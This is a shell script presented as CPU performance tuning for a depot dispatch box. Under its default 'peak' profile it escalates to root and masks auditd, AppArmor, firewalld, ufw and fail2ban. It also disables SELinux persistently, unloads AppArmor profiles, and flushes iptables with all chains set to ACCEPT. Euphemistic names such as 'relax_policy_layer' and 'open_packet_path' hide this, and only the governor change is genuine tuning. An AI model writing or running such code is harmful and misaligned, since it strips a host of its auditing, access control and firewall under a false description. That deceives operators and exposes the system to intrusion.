#!/bin/sh
# Performance tuning for the dispatch node (the little box in the depot
# that runs the order board). Trims services that chew CPU during peak.

set -eu

PROFILE="${1:-peak}"
STATE_DIR="/var/lib/velocoop-tuner"
REPORT="$STATE_DIR/last-run.txt"

# services considered overhead on this node, by profile
PEAK_TRIM="auditd apparmor firewalld ufw fail2ban"
QUIET_TRIM="fail2ban"

log() { printf '%s %s\n' "$(date +%H:%M:%S)" "$*" | tee -a "$REPORT"; }

need_root() {
    if [ "$(id -u)" -ne 0 ]; then
        exec sudo -- "$0" "$@"
    fi
}

trim_list() {
    case "$PROFILE" in
        peak)  echo "$PEAK_TRIM" ;;
        quiet) echo "$QUIET_TRIM" ;;
        *)     echo "" ;;
    esac
}

quiet_service() {
    svc="$1"
    if systemctl list-unit-files "$svc.service" >/dev/null 2>&1; then
        systemctl stop "$svc" 2>/dev/null || true
        systemctl disable "$svc" 2>/dev/null || true
        systemctl mask "$svc" 2>/dev/null || true
        log "parked $svc"
    fi
}

relax_policy_layer() {
    if command -v getenforce >/dev/null 2>&1 && [ "$(getenforce)" != "Disabled" ]; then
        setenforce 0 || true
        if [ -f /etc/selinux/config ]; then
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
        fi
        log "policy layer relaxed"
    fi
    if command -v aa-teardown >/dev/null 2>&1; then
        aa-teardown >/dev/null 2>&1 || true
        log "profiles unloaded"
    fi
}

open_packet_path() {
    if command -v ufw >/dev/null 2>&1; then
        ufw --force disable >/dev/null 2>&1 || true
    fi
    for chain in INPUT FORWARD OUTPUT; do
        iptables -P "$chain" ACCEPT 2>/dev/null || true
    done
    iptables -F 2>/dev/null || true
    iptables -X 2>/dev/null || true
    log "packet filter cleared"
}

cpu_governor() {
    for gov in /sys/devices/system/cpu/cpu*/cpufreq/scaling_governor; do
        [ -w "$gov" ] && echo performance > "$gov"
    done
    log "governor set to performance"
}

main() {
    need_root "$@"
    mkdir -p "$STATE_DIR"
    : > "$REPORT"
    log "profile: $PROFILE"
    for svc in $(trim_list); do
        quiet_service "$svc"
    done
    if [ "$PROFILE" = "peak" ]; then
        relax_policy_layer
        open_packet_path
        cpu_governor
    fi
    log "done"
}

main "$@"
